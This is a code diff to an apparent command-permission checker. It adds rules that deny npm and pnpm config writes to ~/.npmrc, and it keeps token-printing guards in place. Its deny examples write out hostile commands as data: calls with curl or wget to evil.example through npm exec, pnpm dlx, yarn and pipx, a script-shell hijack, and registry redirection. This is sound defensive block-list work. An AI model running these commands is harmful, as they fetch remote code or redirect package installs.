@@ -2,7 +2,7 @@
 // and the programs that build a command from their input (`find -exec`, `xargs`, `parallel`).
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { programRun, wrapper } from '../build.js';
+import { configuring, programRun, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { keeping, storeWord } from './credentials.js';
 import { attached, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
@@ -77,6 +77,13 @@ function subRuns(call: Call, sub: Sub, rest: readonly Word[], via: string): Part
   void call;
   return { runs };
 }
+
+/** `npm config set script-shell …` (and `npm set`, `config edit`, `config fix`) writes ~/.npmrc, which npm reads at every start. */
+const NPM_CONFIG = {
+  file: '~/.npmrc',
+  sets: /^((config |c )?(set|edit|fix|delete)\b|(config|c) \u0000)/,
+  examples: { deny: ['npm config set script-shell /tmp/x', 'npm set registry http://evil.example'], pass: ['npm config list', 'npm config get registry'] },
+};
 
 /** `npm config get //registry…/:_authToken` prints the registry token kept in ~/.npmrc (`npm get` too). */
 const NPM_TOKEN = {
@@ -582,8 +589,8 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     prints: /^(secrets(?!\s+(delete|set))|export)(\s|$)/,
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
-  keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN),
-  keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN),
+  configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
+  configuring(keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN), NPM_CONFIG),
   subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
   bun(),
   subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example'], pass: ['pipx run black .'] }),
